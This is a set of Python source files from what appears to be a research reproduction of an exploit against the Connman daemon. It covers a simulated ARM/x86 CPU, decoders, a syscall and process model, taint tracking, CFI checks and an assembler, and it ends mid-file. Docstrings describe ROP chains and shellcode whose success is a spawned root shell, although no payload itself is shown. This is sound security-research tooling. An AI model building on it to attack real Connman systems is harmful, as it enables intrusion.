            v["r15"] = end
            guard()

    elif mnemonic in ("ldr", "ldrb"):
        rd, rn, offset = operands
        base_reg, base_const = _operand_slot(rn, address)
        read = memory.read_u32 if mnemonic == "ldr" else memory.read_u8

        def op(process, v):
            base = v[base_reg] if base_reg is not None else base_const
            v[rd] = read((base + offset) & MASK32)
            v["r15"] = end

    elif mnemonic in ("str", "strb"):
        rd, rn, offset = operands
        src_reg, src_const = _operand_slot(rd, address)
        base_reg, base_const = _operand_slot(rn, address)
        if mnemonic == "str":
            write_u32 = memory.write_u32

            def op(process, v):
                base = v[base_reg] if base_reg is not None else base_const
                value = v[src_reg] if src_reg is not None else src_const
                write_u32((base + offset) & MASK32, value)
                v["r15"] = end
                guard()
        else:
            write_u8 = memory.write_u8

            def op(process, v):
                base = v[base_reg] if base_reg is not None else base_const
                value = v[src_reg] if src_reg is not None else src_const
                write_u8((base + offset) & MASK32, value & 0xFF)
                v["r15"] = end
                guard()

    else:  # pragma: no cover - classification and compiler kept in sync
        raise IllegalInstruction(address, insn.raw,
                                 f"uncompilable mnemonic {mnemonic}")

    return op


# -- taint propagation (see repro.obs.taint) -------------------------------------

def propagate_taint(engine, process, insn, prev) -> None:
    """Label transfer function mirroring ``_execute``'s data flow.

    Called by :meth:`TaintEngine.step` *after* the instruction retired;
    ``prev`` is the pre-step register file (memory operand addresses —
    r13 for push/pop, the base for ldr/str — come from it).  An r15
    *operand read* yields the constant pc+8, so it never carries labels;
    flags are not shadowed (explicit flows only).

    Memory writes already passed through ``AddressSpace.write`` untainted
    (clearing the covered shadow bytes), so stores only need re-seeding
    when the source register carries labels.
    """

    def value_of(operand):
        if isinstance(operand, int):
            return operand & MASK32
        if operand == "r15":
            return (insn.address + 8) & MASK32
        return prev[operand] & MASK32

    def labels_of(operand):
        if isinstance(operand, int) or operand == "r15":
            return frozenset()
        return engine.reg_labels(operand)

    shadow = engine.shadow
    set_reg = engine.set_reg
    mnemonic = insn.mnemonic
    operands = insn.operands

    if mnemonic in ("mov", "movs", "mvn", "mvns"):
        rd, operand2 = operands
        labels = labels_of(operand2)
        if rd == "r15" and mnemonic in ("mov", "movs"):
            # mvn/mvns to r15 falls through in this interpreter.
            set_reg("r15", labels)
            engine.note_pc_write(labels, pc=process.pc,
                                 via=f"{mnemonic} pc, ...")
            return
        set_reg(rd, labels)
    elif mnemonic in ("add", "adds", "sub", "subs", "and", "ands",
                      "eor", "eors", "orr", "orrs"):
        rd, rn, operand2 = operands
        labels = labels_of(rn) | labels_of(operand2)
        if rd == "r15":
            set_reg("r15", labels)
            engine.note_pc_write(labels, pc=process.pc,
                                 via=f"{mnemonic} pc, ...")
            return
        set_reg(rd, labels)
    elif mnemonic == "pop":
        (reglist,) = operands
        base = prev["r13"] & MASK32
        branch_labels = None
        slot = None
        for index, name in enumerate(reglist):
            labels = shadow.union((base + 4 * index) & MASK32, 4)
            if name == "r15":
                branch_labels = labels
                slot = (base + 4 * index) & MASK32
            else:
                set_reg(name, labels)
        if branch_labels is not None:
            set_reg("r15", branch_labels)
            engine.note_pc_write(branch_labels, pc=process.pc,
                                 via="pop {..., pc}", address=slot)
            return
    elif mnemonic == "push":
        (reglist,) = operands
        # STMDB: reglist[i] lands at sp - 4*(len - i); r15 pushes pc+8
        # (a constant, clean).
        base = prev["r13"] & MASK32
        for index, name in enumerate(reglist):
            labels = labels_of(name)
            if labels:
                slot = (base - 4 * (len(reglist) - index)) & MASK32
                shadow.set_range(slot, (labels,) * 4)
    elif mnemonic in ("bx", "blx"):
        labels = labels_of(operands[0])
        set_reg("r15", labels)
        if mnemonic == "blx":
            set_reg("r14", frozenset())
        engine.note_pc_write(labels, pc=process.pc,
                             via=f"{mnemonic} {operands[0]}")
        return
    elif mnemonic in ("b", "bl"):
        if mnemonic == "bl":
            set_reg("r14", frozenset())
    elif mnemonic == "svc":
        # Syscall results (r0) are host-generated, not wire data.
        set_reg("r0", frozenset())
    elif mnemonic in ("ldr", "ldrb"):
        rd, rn, offset = operands
        width = 4 if mnemonic == "ldr" else 1
        labels = shadow.union((value_of(rn) + offset) & MASK32, width)
        if rd == "r15" and mnemonic == "ldr":
            set_reg("r15", labels)
            engine.note_pc_write(labels, pc=process.pc, via="ldr pc, [...]",
                                 address=(value_of(rn) + offset) & MASK32)
            return
        set_reg(rd, labels)
    elif mnemonic in ("str", "strb"):
        rd, rn, offset = operands
        labels = labels_of(rd)
        if labels:
            width = 4 if mnemonic == "str" else 1
            shadow.set_range((value_of(rn) + offset) & MASK32,
                             (labels,) * width)
    # cmp writes only flags; b/svc fall through to the clear below.
    set_reg("r15", frozenset())
