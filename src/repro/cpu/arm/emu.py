"""Execution backend for the ARMv7 (ARM-mode) subset.

PC semantics follow the architecture: reading ``r15`` as an operand yields
the current instruction address + 8 (two words of legacy pipeline), which is
what position-relative shellcode (``add r0, pc, #imm``) depends on.
"""

from __future__ import annotations

from ..emulator import Emulator
from ..events import IllegalInstruction
from ..isa import Instruction
from ..registers import MASK32
from ..syscalls import dispatch_arm
from .disasm import decode

N_BIT = 1 << 31
Z_BIT = 1 << 30


class ArmEmulator(Emulator):
    arch = "arm"

    def _read_operand(self, operand, insn_address: int) -> int:
        if isinstance(operand, int):
            return operand
        if operand == "r15":
            return (insn_address + 8) & MASK32
        return self.process.registers[operand]

    def _set_nz(self, result: int) -> None:
        cpsr = self.process.registers["cpsr"]
        cpsr &= ~(N_BIT | Z_BIT)
        if result & MASK32 == 0:
            cpsr |= Z_BIT
        if result & 0x80000000:
            cpsr |= N_BIT
        self.process.registers["cpsr"] = cpsr

    def _branch_to(self, target: int) -> None:
        self.process.pc = target & MASK32

    def step(self) -> None:
        process = self.process
        address = process.pc
        if address % 4:
            raise IllegalInstruction(address, b"", "misaligned ARM pc")
        cache = process.decode_cache
        insn = cache.lookup(address)
        if insn is None:
            # fetch() spans contiguous segments (mirroring the x86 window
            # rule): a word straddling two adjacent executable mappings
            # decodes; only a genuine gap or a non-X segment faults.
            raw = process.memory.fetch(address, 4)
            insn = decode(raw, address, strict=True)
            cache.record_decode(insn)
        self._execute(insn)

    def _execute(self, insn: Instruction) -> None:
        process = self.process
        regs = process.registers
        mnemonic = insn.mnemonic
        address = insn.address
        next_pc = insn.end

        if mnemonic in ("mov", "movs"):
            rd, operand2 = insn.operands
            value = self._read_operand(operand2, address)
            if mnemonic == "movs":
                self._set_nz(value)
            if rd == "r15":
                self._branch_to(value)
                return
            regs[rd] = value
        elif mnemonic in ("mvn", "mvns"):
            rd, operand2 = insn.operands
            value = (~self._read_operand(operand2, address)) & MASK32
            regs[rd] = value
        elif mnemonic in ("add", "adds", "sub", "subs", "and", "ands", "eor", "eors", "orr", "orrs"):
            rd, rn, operand2 = insn.operands
            left = self._read_operand(rn, address)
            right = self._read_operand(operand2, address)
            base = mnemonic.rstrip("s")
            if base == "add":
                result = left + right
            elif base == "sub":
                result = left - right
            elif base == "and":
                result = left & right
            elif base == "eor":
                result = left ^ right
            else:
                result = left | right
            result &= MASK32
            if mnemonic.endswith("s") and mnemonic != base:
                self._set_nz(result)
            if rd == "r15":
                self._branch_to(result)
                return
            regs[rd] = result
        elif mnemonic == "cmp":
            rn, operand2 = insn.operands
            self._set_nz((self._read_operand(rn, address) - self._read_operand(operand2, address)) & MASK32)
        elif mnemonic == "pop":
            (reglist,) = insn.operands
            branch_target = None
            for name in reglist:  # LDMIA loads lowest register from lowest address.
                value = process.pop_u32()
                if name == "r15":
                    branch_target = value
                else:
                    regs[name] = value
            if branch_target is not None:
                if process.cfi is not None:
                    process.cfi.check_return(process, address, branch_target)
                self._branch_to(branch_target)
                return
        elif mnemonic == "push":
            (reglist,) = insn.operands
            for name in reversed(reglist):  # STMDB stores highest register highest.
                process.push_u32(self._read_operand(name, address))
        elif mnemonic == "bx":
            target = self._read_operand(insn.operands[0], address)
            if process.cfi is not None:
                process.cfi.check_return(process, address, target)
            self._branch_to(target & ~1)  # Thumb interworking bit ignored: ARM-only core.
            return
        elif mnemonic == "blx":
            target = self._read_operand(insn.operands[0], address)
            regs["r14"] = next_pc
            if process.cfi is not None:
                process.cfi.note_call(process, next_pc)
                process.cfi.check_indirect(process, address, target & ~1)
            self._branch_to(target & ~1)
            return
        elif mnemonic == "b":
            self._branch_to(insn.operands[0])
            return
        elif mnemonic == "bl":
            regs["r14"] = next_pc
            if process.cfi is not None:
                process.cfi.note_call(process, next_pc)
            self._branch_to(insn.operands[0])
            return
        elif mnemonic == "svc":
            process.pc = next_pc
            dispatch_arm(process)
            return
        elif mnemonic == "ldr":
            rd, rn, offset = insn.operands
            value = process.memory.read_u32((self._read_operand(rn, address) + offset) & MASK32)
            if rd == "r15":
                self._branch_to(value)
                return
            regs[rd] = value
        elif mnemonic == "str":
            rd, rn, offset = insn.operands
            process.memory.write_u32(
                (self._read_operand(rn, address) + offset) & MASK32,
                self._read_operand(rd, address),
            )
        elif mnemonic == "ldrb":
            rd, rn, offset = insn.operands
            value = process.memory.read_u8((self._read_operand(rn, address) + offset) & MASK32)
            regs[rd] = value
        elif mnemonic == "strb":
            rd, rn, offset = insn.operands
            process.memory.write_u8(
                (self._read_operand(rn, address) + offset) & MASK32,
                self._read_operand(rd, address) & 0xFF,
            )
        else:  # pragma: no cover - decoder and executor kept in sync
            raise IllegalInstruction(address, insn.raw, f"unimplemented mnemonic {mnemonic}")

        process.pc = next_pc
