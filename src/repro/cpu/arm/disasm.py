"""ARMv7 (ARM-mode) decoder for the emulated subset.

Like the x86 decoder, this serves both the emulator (strict) and the gadget
finder (tolerant); ``(bad)`` words are 4 bytes wide because ARM mode has a
fixed instruction size.
"""

from __future__ import annotations

import struct
from typing import List, Tuple

from ..events import IllegalInstruction
from ..isa import Instruction

COND_AL = 0xE

_DP_OPCODES = {
    0b1101: "mov",
    0b0100: "add",
    0b0010: "sub",
    0b1010: "cmp",
    0b0000: "and",
    0b0001: "eor",
    0b1100: "orr",
    0b1111: "mvn",
}


def _reg(number: int) -> str:
    return f"r{number}"


def _rotate_right(value: int, amount: int) -> int:
    amount %= 32
    if amount == 0:
        return value & 0xFFFFFFFF
    return ((value >> amount) | (value << (32 - amount))) & 0xFFFFFFFF


def _reglist_names(bits: int) -> Tuple[str, ...]:
    return tuple(_reg(i) for i in range(16) if bits & (1 << i))


def decode_word(word: int, address: int, *, strict: bool = True) -> Instruction:
    raw = struct.pack("<I", word)

    def bad(reason: str) -> Instruction:
        if strict:
            raise IllegalInstruction(address, raw, reason)
        return Instruction(address, 4, "(bad)", (), raw)

    cond = (word >> 28) & 0xF
    if cond != COND_AL:
        return bad(f"unsupported condition field {cond:#x}")

    body = word & 0x0FFFFFFF

    # BX / BLX register (checked before generic data processing).
    if (body & 0x0FFFFFF0) == 0x012FFF10:
        return Instruction(address, 4, "bx", (_reg(body & 0xF),), raw)
    if (body & 0x0FFFFFF0) == 0x012FFF30:
        return Instruction(address, 4, "blx", (_reg(body & 0xF),), raw)

    # SVC.
    if (body >> 24) == 0xF:
        return Instruction(address, 4, "svc", (body & 0x00FFFFFF,), raw)

    # B / BL.
    if (body >> 25) == 0b101:
        link = bool(body & (1 << 24))
        offset = body & 0x00FFFFFF
        if offset & 0x00800000:
            offset -= 0x01000000
        target = (address + 8 + (offset << 2)) & 0xFFFFFFFF
        return Instruction(address, 4, "bl" if link else "b", (target,), raw)

    # LDM/STM on sp! (push/pop shapes only).
    if (body & 0x0FFF0000) == 0x08BD0000:
        return Instruction(address, 4, "pop", (_reglist_names(body & 0xFFFF),), raw)
    if (body & 0x0FFF0000) == 0x092D0000:
        return Instruction(address, 4, "push", (_reglist_names(body & 0xFFFF),), raw)

    # LDR/STR immediate, pre-indexed, no writeback, word- or byte-sized.
    if (body >> 26) == 0b01 and not (body & (1 << 25)):
        pre = bool(body & (1 << 24))
        up = bool(body & (1 << 23))
        byte = bool(body & (1 << 22))
        writeback = bool(body & (1 << 21))
        load = bool(body & (1 << 20))
        if pre and not writeback:
            rn = _reg((body >> 16) & 0xF)
            rd = _reg((body >> 12) & 0xF)
            offset = body & 0xFFF
            if not up:
                offset = -offset
            if byte:
                mnemonic = "ldrb" if load else "strb"
            else:
                mnemonic = "ldr" if load else "str"
            return Instruction(address, 4, mnemonic, (rd, rn, offset), raw)
        return bad("unsupported LDR/STR form")

    # Data processing.
    if (body >> 26) == 0b00:
        immediate = bool(body & (1 << 25))
        opcode = (body >> 21) & 0xF
        set_flags = bool(body & (1 << 20))
        mnemonic = _DP_OPCODES.get(opcode)
        if mnemonic is None:
            return bad(f"unsupported data-processing opcode {opcode:#x}")
        rn = _reg((body >> 16) & 0xF)
        rd = _reg((body >> 12) & 0xF)
        if immediate:
            rotation = ((body >> 8) & 0xF) * 2
            value = _rotate_right(body & 0xFF, rotation)
            operand2: object = value
        else:
            if (body >> 4) & 0xFF:
                return bad("shifted register operands not supported")
            operand2 = _reg(body & 0xF)
        suffix = "s" if set_flags and mnemonic != "cmp" else ""
        operands: Tuple
        if mnemonic in ("mov", "mvn"):
            operands = (rd, operand2)
        elif mnemonic == "cmp":
            operands = (rn, operand2)
        else:
            operands = (rd, rn, operand2)
        return Instruction(address, 4, mnemonic + suffix, operands, raw)

    return bad(f"undecodable word {word:#010x}")


def decode(data: bytes, address: int, offset: int = 0, *, strict: bool = True) -> Instruction:
    chunk = data[offset : offset + 4]
    if len(chunk) < 4:
        raise IllegalInstruction(address, chunk, "truncated ARM word")
    return decode_word(struct.unpack("<I", chunk)[0], address, strict=strict)


def linear_sweep(data: bytes, base: int) -> List[Instruction]:
    """Decode every aligned word; bad words become ``(bad)`` placeholders."""
    instructions = []
    for offset in range(0, len(data) - len(data) % 4, 4):
        instructions.append(decode(data, base + offset, offset, strict=False))
    return instructions
