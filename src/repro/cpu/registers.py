"""32-bit register files for the two target architectures."""

from __future__ import annotations

from typing import Dict, Tuple

X86_REGISTERS: Tuple[str, ...] = ("eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi")
X86_EXTRA: Tuple[str, ...] = ("eip", "eflags")

#: Index order matches the hardware encoding used in ModR/M and ``PUSH r32``.
X86_REG_INDEX: Dict[str, int] = {name: index for index, name in enumerate(X86_REGISTERS)}

#: 8-bit register row used by ``MOV r8, imm8`` (B0+r): al cl dl bl ah ch dh bh.
X86_REG8: Tuple[str, ...] = ("al", "cl", "dl", "bl", "ah", "ch", "dh", "bh")

ARM_REGISTERS: Tuple[str, ...] = tuple(f"r{i}" for i in range(16))
ARM_ALIASES: Dict[str, str] = {"sp": "r13", "lr": "r14", "pc": "r15", "fp": "r11", "ip": "r12"}

MASK32 = 0xFFFFFFFF


class RegisterFile:
    """Named 32-bit registers with alias support and masking."""

    def __init__(self, names: Tuple[str, ...], aliases: Dict[str, str]):
        self._names = names
        self._aliases = dict(aliases)
        self._values: Dict[str, int] = {name: 0 for name in names}

    def _canonical(self, name: str) -> str:
        name = self._aliases.get(name, name)
        if name not in self._values:
            raise KeyError(f"unknown register {name!r}")
        return name

    @property
    def values(self) -> Dict[str, int]:
        """The raw canonical-name → value mapping (live, not a copy).

        The superblock compiler (:mod:`repro.cpu.blocks`) executes against
        this dict directly: both decoders emit only canonical names, and
        compiled ops pre-mask every stored value, so the alias resolution
        and masking in :meth:`set` would be pure overhead on that path.
        Mutators must store 32-bit-masked values under canonical names.
        """
        return self._values

    def get(self, name: str) -> int:
        return self._values[self._canonical(name)]

    def set(self, name: str, value: int) -> None:
        self._values[self._canonical(name)] = value & MASK32

    def __getitem__(self, name: str) -> int:
        return self.get(name)

    def __setitem__(self, name: str, value: int) -> None:
        self.set(name, value)

    def snapshot(self) -> Dict[str, int]:
        """Copy of all register values (used by the recon debugger)."""
        return dict(self._values)

    def load(self, values: Dict[str, int]) -> None:
        for name, value in values.items():
            self.set(name, value)

    def describe(self) -> str:
        return "  ".join(f"{name}={value:08x}" for name, value in self._values.items())


def make_x86_registers() -> RegisterFile:
    return RegisterFile(X86_REGISTERS + X86_EXTRA, aliases={"sp": "esp", "pc": "eip"})


def make_arm_registers() -> RegisterFile:
    return RegisterFile(ARM_REGISTERS + ("cpsr",), aliases=dict(ARM_ALIASES))


def make_registers(arch: str) -> RegisterFile:
    if arch == "x86":
        return make_x86_registers()
    if arch == "arm":
        return make_arm_registers()
    raise ValueError(f"unsupported architecture {arch!r}")


def pc_register(arch: str) -> str:
    return "eip" if arch == "x86" else "r15"


def sp_register(arch: str) -> str:
    return "esp" if arch == "x86" else "r13"
