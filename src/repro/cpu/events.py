"""Control events raised or reported during emulation."""

from __future__ import annotations


class CpuError(Exception):
    """Base class for CPU-level faults."""

    signal = "SIGILL"


class IllegalInstruction(CpuError):
    """Fetch decoded to bytes the CPU cannot execute (SIGILL)."""

    def __init__(self, address: int, raw: bytes, message: str = ""):
        self.address = address
        self.raw = raw
        detail = message or f"illegal instruction {raw.hex()} at {address:#010x}"
        super().__init__(detail)


class EmulationBudgetExceeded(CpuError):
    """The step budget ran out — treated as a hung process."""

    signal = "SIGKILL"

    def __init__(self, steps: int):
        self.steps = steps
        super().__init__(f"emulation exceeded {steps} steps")


class ControlFlowViolation(CpuError):
    """A CFI policy rejected a control transfer (defense from paper §IV)."""

    signal = "SIGABRT"

    def __init__(self, address: int, target: int, kind: str, message: str = ""):
        self.address = address
        self.target = target
        self.kind = kind
        detail = message or (
            f"CFI: {kind} at {address:#010x} to disallowed target {target:#010x}"
        )
        super().__init__(detail)


class CanaryClobbered(CpuError):
    """Stack-smashing detected (``__stack_chk_fail`` equivalent)."""

    signal = "SIGABRT"

    def __init__(self, frame: str, expected: int, found: int):
        self.frame = frame
        self.expected = expected
        self.found = found
        super().__init__(
            f"stack smashing detected in {frame}: canary {found:#010x} != {expected:#010x}"
        )


class _EmulationStop(Exception):
    """Internal signal that the run loop should stop cleanly (never escapes)."""

    def __init__(self, reason: str, detail: str = ""):
        self.reason = reason
        self.detail = detail
        super().__init__(f"{reason}: {detail}" if detail else reason)
