"""Execution tracing: watch the hijacked control flow instruction by
instruction.

Attach a :class:`TraceRecorder` to ``process.trace`` before running the
emulator and every executed instruction (and native libc call) is recorded
— which is how the examples show a ROP chain stepping through
``pop {r0..r7, pc}`` → ``blx r3`` → ``memcpy@plt`` → … → ``execlp@plt``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional


@dataclass(frozen=True)
class TraceEntry:
    pc: int
    kind: str  # "insn" | "native"
    text: str

    def __str__(self) -> str:
        marker = "*" if self.kind == "native" else " "
        return f"{marker}{self.pc:#010x}  {self.text}"


@dataclass
class TraceRecorder:
    """Bounded instruction/native-call trace."""

    limit: int = 4096
    entries: List[TraceEntry] = field(default_factory=list)

    def record(self, pc: int, kind: str, text: str) -> None:
        if len(self.entries) < self.limit:
            self.entries.append(TraceEntry(pc=pc, kind=kind, text=text))

    @property
    def truncated(self) -> bool:
        return len(self.entries) >= self.limit

    def natives(self) -> List[TraceEntry]:
        return [entry for entry in self.entries if entry.kind == "native"]

    def describe(self, last: Optional[int] = None) -> str:
        entries = self.entries if last is None else self.entries[-last:]
        return "\n".join(str(entry) for entry in entries)

    def __len__(self) -> int:
        return len(self.entries)
