"""Linux 32-bit syscall model (``int 0x80`` on x86, ``svc #0`` on ARM EABI).

Only the calls the paper's shellcode and our daemon runtime need are
implemented; anything else is reported as an unknown syscall (``ENOSYS``)
so stray control flow fails loudly instead of silently "succeeding".
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from .events import _EmulationStop
from .process import Process

SYS_EXIT = 1
SYS_WRITE = 4
SYS_EXECVE = 11

ENOSYS = 38
EFAULT = 14


def _read_argv(process: Process, argv_ptr: int) -> Tuple[str, ...]:
    """Read a NULL-terminated char* array; NULL argv is accepted like Linux."""
    if argv_ptr == 0:
        return ()
    argv: List[str] = []
    cursor = argv_ptr
    for _ in range(64):
        entry = process.memory.read_u32(cursor)
        if entry == 0:
            break
        argv.append(process.memory.read_cstring(entry).decode("latin-1"))
        cursor += 4
    return tuple(argv)


def _do_execve(process: Process, path_ptr: int, argv_ptr: int) -> None:
    path = process.memory.read_cstring(path_ptr).decode("latin-1")
    argv = _read_argv(process, argv_ptr)
    record = process.record_spawn(path, argv)
    # execve replaces the image: the old program never runs again.
    process.record_exit(code=0, signal=None)
    raise _EmulationStop("execve", f"execve({record.path!r}, argv={record.argv}) uid={record.uid}")


def dispatch(process: Process, number: int, args: Tuple[int, int, int]) -> int:
    """Execute one syscall; returns the value for the result register.

    Raises :class:`_EmulationStop` for calls that end emulation (execve/exit).
    """
    if number == SYS_EXIT:
        process.record_exit(code=args[0] & 0xFF)
        raise _EmulationStop("exit", f"exit({args[0] & 0xFF})")
    if number == SYS_EXECVE:
        _do_execve(process, args[0], args[1])
    if number == SYS_WRITE:
        # Output is accepted and discarded; length is the success value.
        return args[2]
    return (-ENOSYS) & 0xFFFFFFFF


def dispatch_x86(process: Process) -> None:
    regs = process.registers
    result = dispatch(process, regs["eax"], (regs["ebx"], regs["ecx"], regs["edx"]))
    regs["eax"] = result


def dispatch_arm(process: Process) -> None:
    regs = process.registers
    result = dispatch(process, regs["r7"], (regs["r0"], regs["r1"], regs["r2"]))
    regs["r0"] = result
