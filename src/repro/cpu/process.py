"""The simulated victim process: memory + registers + kernel-visible state.

A :class:`Process` is what the Connman daemon simulation owns, what the
emulators mutate, and what the exploit outcome is read from: a successful
attack ends with a :class:`SpawnRecord` for ``/bin/sh`` at uid 0 in
``process.spawns``.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from ..mem import AddressSpace
from .blocks import BlockCache
from .cache import DecodeCache
from .isa import check_arch
from .registers import RegisterFile, make_registers, pc_register, sp_register


@dataclass(frozen=True)
class SpawnRecord:
    """An ``exec*``-family image replacement observed by the kernel model."""

    path: str
    argv: Tuple[str, ...]
    uid: int

    @property
    def is_shell(self) -> bool:
        return self.path.rsplit("/", 1)[-1] == "sh"

    @property
    def is_root_shell(self) -> bool:
        return self.is_shell and self.uid == 0


@dataclass
class ExitRecord:
    """Process termination (clean exit or signal)."""

    code: int = 0
    signal: Optional[str] = None


class Process:
    """One emulated 32-bit process."""

    _next_pid = 100

    def __init__(self, arch: str, memory: AddressSpace, *, uid: int = 0, name: str = "proc"):
        self.arch = check_arch(arch)
        self.memory = memory
        self.uid = uid
        self.name = name
        self.pid = Process._next_pid
        Process._next_pid += 1
        self.registers: RegisterFile = make_registers(arch)
        #: Native (host-implemented) functions keyed by entry address — the
        #: libc model.  The emulator consults this before fetching bytes.
        self.native: Dict[int, "NativeFunctionType"] = {}
        self.spawns: List[SpawnRecord] = []
        self.exit: Optional[ExitRecord] = None
        #: Optional CFI policy (defense §IV); emulators call its hooks.
        self.cfi = None
        #: Optional TraceRecorder; the emulator records executed
        #: instructions and native calls into it when set.
        self.trace = None
        #: Decoded-instruction cache shared by every emulator run over this
        #: process (write-invalidated; see :mod:`repro.cpu.cache`).
        self.decode_cache = DecodeCache(memory)
        #: Bumped on every ``register_native`` — compiled superblocks are
        #: keyed on it so a native handler registered mid-run is never
        #: skipped by an already-compiled straight line.
        self.native_version = 0
        #: Compiled-superblock cache layered over the decode cache
        #: (see :mod:`repro.cpu.blocks`).
        self.block_cache = BlockCache(self)
        #: Optional obs Collector — the process's trace context.  The
        #: emulator flushes decode-cache counters into it, nests each run
        #: under a ``cpu.run`` span on its tracer, and captures crash
        #: postmortems through it when a run faults.
        self.observer = None
        #: Optional :class:`~repro.obs.profiler.DeterministicProfiler`;
        #: the emulator attributes per-opcode/per-block cost and takes
        #: guest stack samples through it when set.  Read-only over
        #: guest state: profiled runs are outcome-identical.
        self.profiler = None
        #: Optional :class:`~repro.obs.taint.TaintEngine`; the emulator
        #: propagates byte-level labels through each executed instruction
        #: when set (per-step dispatch, like tracing).  Read-only over
        #: guest state: tainted runs are outcome-identical.
        self.taint = None
        self._pc_name = pc_register(arch)
        self._sp_name = sp_register(arch)

    # -- register conveniences --------------------------------------------------

    @property
    def pc(self) -> int:
        return self.registers[self._pc_name]

    @pc.setter
    def pc(self, value: int) -> None:
        self.registers[self._pc_name] = value

    @property
    def sp(self) -> int:
        return self.registers[self._sp_name]

    @sp.setter
    def sp(self, value: int) -> None:
        self.registers[self._sp_name] = value

    # -- stack helpers (both ISAs use a full-descending stack) -------------------

    def push_u32(self, value: int) -> None:
        self.sp = (self.sp - 4) & 0xFFFFFFFF
        self.memory.write_u32(self.sp, value)

    def pop_u32(self) -> int:
        value = self.memory.read_u32(self.sp)
        self.sp = (self.sp + 4) & 0xFFFFFFFF
        return value

    def push_bytes(self, data: bytes) -> int:
        """Push raw bytes (unaligned allowed); returns the new sp."""
        self.sp = (self.sp - len(data)) & 0xFFFFFFFF
        self.memory.write(self.sp, data)
        return self.sp

    # -- kernel-visible effects ----------------------------------------------------

    def record_spawn(self, path: str, argv: Tuple[str, ...]) -> SpawnRecord:
        record = SpawnRecord(path=path, argv=argv, uid=self.uid)
        self.spawns.append(record)
        return record

    def record_exit(self, code: int = 0, signal: Optional[str] = None) -> None:
        self.exit = ExitRecord(code=code, signal=signal)

    @property
    def alive(self) -> bool:
        return self.exit is None

    @property
    def spawned_root_shell(self) -> bool:
        """The paper's success criterion: a root shell was spawned."""
        return any(record.is_root_shell for record in self.spawns)

    # -- native function registry ----------------------------------------------------

    def register_native(self, address: int, function: "NativeFunctionType") -> None:
        self.native[address] = function
        self.native_version += 1

    def native_at(self, address: int) -> Optional["NativeFunctionType"]:
        return self.native.get(address & 0xFFFFFFFF)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        state = "alive" if self.alive else f"exited({self.exit})"
        return f"Process(pid={self.pid}, name={self.name!r}, arch={self.arch}, {state})"


# Typing alias resolved at runtime by repro.cpu.native.
NativeFunctionType = Callable


def pack_u32(value: int) -> bytes:
    return struct.pack("<I", value & 0xFFFFFFFF)
