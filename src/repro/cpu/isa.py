"""Architecture-neutral instruction representation.

Both the emulators and the gadget finder consume :class:`Instruction`
objects, so one decoder per architecture serves execution *and* ROP-gadget
discovery — the same property the paper relies on when it points
``ropper``/``ROPgadget`` at the compiled Connman binary.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Tuple

X86 = "x86"
ARM = "arm"

SUPPORTED_ARCHES = (X86, ARM)


@dataclass(frozen=True)
class Instruction:
    """One decoded instruction."""

    address: int
    size: int
    mnemonic: str
    operands: Tuple = field(default_factory=tuple)
    raw: bytes = b""

    @property
    def end(self) -> int:
        return self.address + self.size

    @property
    def is_bad(self) -> bool:
        """True for bytes the decoder could not interpret."""
        return self.mnemonic == "(bad)"

    def text(self) -> str:
        """Assembly-ish rendering for logs and gadget listings."""
        if not self.operands:
            return self.mnemonic
        parts = []
        for operand in self.operands:
            if isinstance(operand, int):
                parts.append(f"{operand:#x}")
            elif isinstance(operand, tuple):
                parts.append("{" + ", ".join(operand) + "}")
            else:
                parts.append(str(operand))
        return f"{self.mnemonic} {', '.join(parts)}"

    def __str__(self) -> str:
        return f"{self.address:#010x}: {self.text()}"


def check_arch(arch: str) -> str:
    if arch not in SUPPORTED_ARCHES:
        raise ValueError(f"unsupported architecture {arch!r}; expected one of {SUPPORTED_ARCHES}")
    return arch
