"""Tiny 32-bit x86 assembler covering the subset this system generates.

Every byte sequence emitted here round-trips through
:mod:`repro.cpu.x86.disasm`, which is property-tested; the connman binary
builder, the shellcode library and the test suite are the only consumers.
"""

from __future__ import annotations

import struct

from ..registers import X86_REG8, X86_REG_INDEX


def _reg(name: str) -> int:
    try:
        return X86_REG_INDEX[name]
    except KeyError:
        raise ValueError(f"unknown x86 register {name!r}") from None


def _reg8(name: str) -> int:
    try:
        return X86_REG8.index(name)
    except ValueError:
        raise ValueError(f"unknown x86 8-bit register {name!r}") from None


def _modrm(mod: int, reg: int, rm: int) -> int:
    return (mod << 6) | (reg << 3) | rm


def _imm32(value: int) -> bytes:
    return struct.pack("<I", value & 0xFFFFFFFF)


def nop() -> bytes:
    return b"\x90"


def push_reg(name: str) -> bytes:
    return bytes([0x50 + _reg(name)])


def pop_reg(name: str) -> bytes:
    return bytes([0x58 + _reg(name)])


def push_imm32(value: int) -> bytes:
    return b"\x68" + _imm32(value)


def push_imm8(value: int) -> bytes:
    return bytes([0x6A, value & 0xFF])


def mov_reg_imm32(name: str, value: int) -> bytes:
    return bytes([0xB8 + _reg(name)]) + _imm32(value)


def mov_reg8_imm8(name: str, value: int) -> bytes:
    return bytes([0xB0 + _reg8(name), value & 0xFF])


def mov_reg_reg(dst: str, src: str) -> bytes:
    """MOV r/m32, r32 (89 /r) with register-direct ModR/M."""
    return bytes([0x89, _modrm(3, _reg(src), _reg(dst))])


def xor_reg_reg(dst: str, src: str) -> bytes:
    return bytes([0x31, _modrm(3, _reg(src), _reg(dst))])


def add_reg_reg(dst: str, src: str) -> bytes:
    return bytes([0x01, _modrm(3, _reg(src), _reg(dst))])


def and_reg_reg(dst: str, src: str) -> bytes:
    return bytes([0x21, _modrm(3, _reg(src), _reg(dst))])


def or_reg_reg(dst: str, src: str) -> bytes:
    return bytes([0x09, _modrm(3, _reg(src), _reg(dst))])


def not_reg(name: str) -> bytes:
    return bytes([0xF7, _modrm(3, 2, _reg(name))])


def neg_reg(name: str) -> bytes:
    return bytes([0xF7, _modrm(3, 3, _reg(name))])


def shl_reg_imm8(name: str, count: int) -> bytes:
    return bytes([0xC1, _modrm(3, 4, _reg(name)), count & 0x1F])


def shr_reg_imm8(name: str, count: int) -> bytes:
    return bytes([0xC1, _modrm(3, 5, _reg(name)), count & 0x1F])


def xchg_eax_reg(name: str) -> bytes:
    """XCHG eax, r32 (90+r); note 0x90 itself is xchg eax, eax == nop."""
    return bytes([0x90 + _reg(name)])


def mov_mem_reg(base: str, src: str) -> bytes:
